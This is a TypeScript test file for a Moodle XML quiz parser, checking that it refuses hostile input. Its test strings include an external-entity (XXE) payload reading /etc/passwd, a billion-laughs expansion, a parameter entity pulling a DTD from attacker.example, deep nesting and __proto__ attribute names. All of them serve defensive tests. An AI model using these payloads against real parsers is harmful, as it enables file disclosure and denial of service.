import { cpuTimed } from "../../testing/cpu-time";
import { beforeAll, describe, expect, it } from "vitest";
import { parseMoodleXml } from "./parse";
import { answer, question, quiz, readSample } from "./test-helpers";
import { maxDepth } from "./xml-tree";

const essay = question("essay", "Deterrence", "Explain deterrence by punishment.");
/** A quiz without its XML declaration, to follow a DOCTYPE. */
const body = (...questions: string[]) => quiz(...questions).replace(/^<\?xml[^>]*>\n/, "");

/** Parses and reports how long it took, so every hostile input is also a timing check. */
function timed(xml: string) {
  return cpuTimed(() => parseMoodleXml(xml));
}

describe("parseMoodleXml on hostile input", () => {
  // The budget is for parsing, not for the engine compiling the parser on its first run.
  beforeAll(() => void parseMoodleXml(readSample("alliance-security.xml")));

  it("refuses an external entity (XXE) without reading it", () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE quiz [\n<!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n${body(question("essay", "&secret;", "Leak: &secret;"))}`;
    const { result } = timed(xml);
    expect(result.questions).toEqual([]);
    expect(result.problems).toHaveLength(1);
    expect(result.problems[0]!.message).toMatch(/declares its own XML entities/);
    expect(JSON.stringify(result)).not.toMatch(/root:/);
  });

  it("refuses entity expansion (billion laughs) quickly", () => {
    const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("\n");
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE quiz [\n<!ENTITY lol0 "lol">\n${levels}\n]>\n${body(question("essay", "Laughs", "&lol9;"))}`;
    const { result, ms } = timed(xml);
    expect(result.questions).toEqual([]);
    expect(result.problems[0]).toMatchObject({ line: expect.any(Number), message: expect.stringMatching(/entities/) });
    expect(ms).toBeLessThan(1000);
  });

  it("refuses parameter entities too, but reads a DOCTYPE that declares none", () => {
    const parameter = `<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>${body(essay)}`;
    expect(parseMoodleXml(parameter)).toMatchObject({ questions: [], problems: [{ message: expect.stringMatching(/declares its own XML entities/) }] });
    const plain = `<?xml version="1.0"?>\n<!DOCTYPE quiz SYSTEM "http://attacker.example/quiz.dtd">\n${body(essay)}`;
    expect(parseMoodleXml(plain)).toMatchObject({ questions: [{ name: "Deterrence" }], problems: [] });
  });

  it("reports an HTML entity, which XML does not know, as malformed XML with its line", () => {
    const result = parseMoodleXml(quiz(essay, question("essay", "Space", "Non&nbsp;breaking")));
    expect(result.questions).toEqual([]);
    expect(result.problems).toEqual([{ line: 4, message: expect.stringMatching(/^The file is not well-formed XML \(undefined entity\)/) }]);
  });

  it.each([
    ["an unclosed tag", quiz("<question type='essay'><name><text>Open</text></question>")],
    ["a truncated file", readSample("alliance-security.xml").slice(0, 3000)],
    ["two roots", `${quiz(essay)}${quiz(essay)}`],
    ["a bare ampersand", quiz(question("essay", "R&D", "Research"))],
    ["plain text", "Article 5: an attack on one is an attack on all."],
    ["an empty file", ""],
    ["control characters", `<quiz>\u0000\u0001</quiz>`],
  ])("reports %s as one problem and no questions", (_, xml) => {
    const result = parseMoodleXml(xml);
    expect(result.questions).toEqual([]);
    expect(result.problems).toHaveLength(1);
    expect(result.problems[0]!.line).toBeGreaterThanOrEqual(1);
  });

  it("refuses nesting deeper than any question file needs, quickly", () => {
    const depth = 100_000;
    const { result, ms } = timed(`${"<a>".repeat(depth)}${"</a>".repeat(depth)}`);
    expect(result.problems).toEqual([{ line: 1, message: expect.stringContaining(`more than ${maxDepth} levels`) }]);
    expect(ms).toBeLessThan(1000);
  });

  it("stays linear on very wide, very long and tag-riddled input", () => {
    const manyAnswers = question("multichoice", "Wide", "Pick one.", Array.from({ length: 3_000 }, (_, i) => answer(i === 0 ? "100" : "0", `Option ${i}`)).join(""));
    const longText = question("essay", "Long", `<![CDATA[${"Collective defence. ".repeat(50_000)}]]>`);
    const riddledName = question("essay", `<![CDATA[${"<".repeat(100_000)}]]>`, "Discuss.");
    const manyQuestions = quiz(...Array.from({ length: 2_000 }, (_, i) => question("essay", `Q${i}`, "Discuss.")));
    for (const xml of [quiz(manyAnswers), quiz(longText), quiz(riddledName), manyQuestions]) {
      const { result, ms } = timed(xml);
      expect(result.questions.length).toBeGreaterThan(0);
      expect(ms).toBeLessThan(1000);
    }
  });

  it("reads type, format and attribute names that are also names of Object's properties as plain names", () => {
    const result = parseMoodleXml(
      quiz(
        `<question type="constructor"><name><text>A</text></name></question>`,
        `<question type="hasOwnProperty"><name><text>B</text></name></question>`,
        `<question type="essay" __proto__="x"><name><text>C</text></name><questiontext format="toString"><text>Discuss.</text></questiontext></question>`,
      ),
    );
    expect(result.skipped.map((skipped) => skipped.sourceType)).toEqual(["constructor", "hasOwnProperty"]);
    expect(result.questions).toMatchObject([{ name: "C", textFormat: "html" }]);
    expect(result.problems).toEqual([]);
  });

  it("never throws, even on a question made only of odd shapes", () => {
    const odd = `<question type="numerical"><name/><questiontext><text>How many?</text></questiontext><answer fraction="100"><text>1e400</text><tolerance>1e-400</tolerance></answer></question>`;
    expect(() => parseMoodleXml(quiz(odd))).not.toThrow();
  });
});
